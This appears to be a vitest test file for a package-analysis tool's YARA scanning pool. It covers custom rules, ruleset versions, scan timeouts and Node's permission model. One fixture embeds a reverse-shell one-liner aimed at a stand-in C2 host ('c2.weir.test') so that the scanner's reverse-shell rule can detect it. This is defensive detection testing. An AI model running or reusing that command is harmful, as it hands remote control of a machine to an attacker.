import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { createAnalysisPool } from '../pool.ts';
import { loadAddon } from './addon.ts';

const dir = mkdtempSync(join(tmpdir(), 'weir-yara-pool-'));
afterAll(() => rmSync(dir, { recursive: true }));
const never = new AbortController().signal;
const OPTIONS = { workersMax: 1, memoryMbMax: 1024, deadlineMs: 30_000, idleMs: 60_000 };
const yaraRules = [
  {
    name: 'mine.yar',
    text: 'rule mine { meta: severity = "high" confidence = 90 strings: $a = "words that only I look for" condition: $a }',
  },
];

function request(name: string, text: string) {
  const path = join(dir, name);
  const bytes = tarball()
    .file('package/package.json', '{ "name": "a", "version": "1.0.0" }')
    .file('package/index.js', text)
    .build();
  writeFileSync(path, bytes);
  return { path, filename: name, ecosystem: 'npm' as const, context: null };
}

describe.skipIf(loadAddon().addon === null)('children with YARA', () => {
  test("ask Weir's rules and the user's, under Node's permission model", async () => {
    await using pool = createAnalysisPool({ ...OPTIONS, yaraRules });

    const result = await pool.analyze(
      request(
        'a.tgz',
        `// words that only I look for\nexports.c = 'bash -i >& /dev/tcp/c2.weir.test/1 0>&1';\n`,
      ),
      never,
    );

    expect(result.findings.map(({ rule }) => rule)).toEqual(['yara/user/mine', 'yara/reverse_shell_command']);
    expect(result.yara?.texts).toBe(2);
  });

  test("the ruleset version holds the user's rules", async () => {
    await using own = createAnalysisPool(OPTIONS);
    await using mine = createAnalysisPool({ ...OPTIONS, yaraRules });

    expect(mine.rulesetVersion).not.toBe(own.rulesetVersion);
  });

  test('a scan that never ends costs its child, and only that', async () => {
    await using pool = createAnalysisPool(
      { ...OPTIONS, deadlineMs: 500 },
      { entry: new URL('../testing/native-child.ts', import.meta.url), rulesetVersion: 'test' },
    );

    const result = await pool.analyze(request('b.tgz', ''), never);

    expect(result.findings.map(({ rule }) => rule)).toEqual(['analysis/timeout']);
    expect(result.judgement.verdict).toBe('inconclusive');
  });
});

test('a process without the engine says so, and its ruleset version is another', () => {
  const script = `
    const { yaraEngine } = await import(${JSON.stringify(new URL('./addon.ts', import.meta.url).href)});
    const { computeRulesetVersion } = await import(${JSON.stringify(new URL('../ruleset.ts', import.meta.url).href)});
    const { createYaraScanner } = await import(${JSON.stringify(new URL('./scanner.ts', import.meta.url).href)});
    console.log(JSON.stringify({ ...yaraEngine(), ruleset: computeRulesetVersion(), scanner: createYaraScanner() }));`;
  const run = (...flags: string[]): Record<string, unknown> =>
    JSON.parse(
      execFileSync(
        process.execPath,
        [...flags, '--disable-warning=ExperimentalWarning', '--input-type=module-typescript', '-e', script],
        { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] },
      ),
    ) as Record<string, unknown>;

  // Node's permission model keeps the addon out, as a platform without a build of it does.
  const without = run('--permission', '--allow-fs-read=*');

  expect(without).toMatchObject({ version: null, scanner: null });
  expect(without.problem).toContain(`no engine for ${process.platform}-${process.arch}`);
  expect(without.ruleset).toMatch(/^[0-9a-f]{16}$/);
  if (loadAddon().addon !== null) expect(run().ruleset).not.toBe(without.ruleset);
});
